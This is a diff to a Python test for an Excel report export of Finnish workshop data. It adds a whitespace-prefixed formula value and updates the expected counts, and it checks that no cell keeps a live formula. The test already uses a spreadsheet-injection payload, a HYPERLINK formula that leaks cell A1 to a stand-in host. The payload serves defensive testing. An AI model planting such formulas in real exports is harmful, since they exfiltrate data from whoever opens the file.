@@ -324,7 +324,8 @@ def test_the_same_season_gives_the_same_bytes(monkeypatch):
 def test_the_workbook_counts_per_card_unit_and_period_and_runs_no_formula():
     season = helsinki_season()
     hostile = workshop(ALL, organisation='=HYPERLINK("http://x?leak="&A1,"click")', date="2026-11-30", participants=2)
-    season = season._replace(workshops=season.workshops + (hostile,))
+    spaced = workshop(ALL, organisation=" \t=1+1", date="2026-11-30")  # a leading space is no way round it
+    season = season._replace(workshops=season.workshops + (hostile, spaced))
     data = report_xlsx(season)
     book = openpyxl.load_workbook(io.BytesIO(data))
     assert book.sheetnames == ["Osallisuuspelin tulokset", "Yksiköittäin", "Kuukausittain"]
@@ -340,10 +341,11 @@ def test_the_workbook_counts_per_card_unit_and_period_and_runs_no_formula():
         "Punainen merkki",
         "Mukana työpajoissa",
     )
-    assert cards[7] == (7, "Kokeilut", "Käyttäjien osallisuus palveluiden kehittämisessä", 2, 0, 3, 4, 0, 7)
+    assert cards[7] == (7, "Kokeilut", "Käyttäjien osallisuus palveluiden kehittämisessä", 2, 0, 3, 4, 0, 8)
     assert len(cards) == 1 + len(ALL)
     assert units[1:] == [
-        ('\'=HYPERLINK("http://x?leak="&A1,"click")', 1, 2, 0, 0),
+        ("=1+1", 1, 0, 0, 0),  # shown as typed, its spacing made one
+        ('=HYPERLINK("http://x?leak="&A1,"click")', 1, 2, 0, 0),
         ("Kasvatus", 2, 15, 2, 3),
         ("Kulttuuri", 1, 5, 1, 2),
         ("Liikenne", 2, 6, 0, 1),
@@ -352,11 +354,12 @@ def test_the_workbook_counts_per_card_unit_and_period_and_runs_no_formula():
     assert months[1:] == [
         ("syyskuu 2026", "2026-09", 2, 12, 2, 4),
         ("lokakuu 2026", "2026-10", 1, 8, 1, 1),
-        ("marraskuu 2026", "2026-11", 3, 8, 0, 1),
+        ("marraskuu 2026", "2026-11", 4, 8, 0, 1),
         ("Ei päivämäärää", None, 1, 0, 0, 0),
     ]
     formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
     assert formulas == []
+    assert [c.quotePrefix for c in book.worksheets[1]["A"][1:4]] == [True, True, False]  # Excel keeps them text when edited
     with zipfile.ZipFile(io.BytesIO(data)) as z:
         assert [n for n in z.namelist() if n.startswith("xl/charts/")] == ["xl/charts/chart1.xml"]
         assert b'<grouping val="stacked"/>' in z.read("xl/charts/chart1.xml")
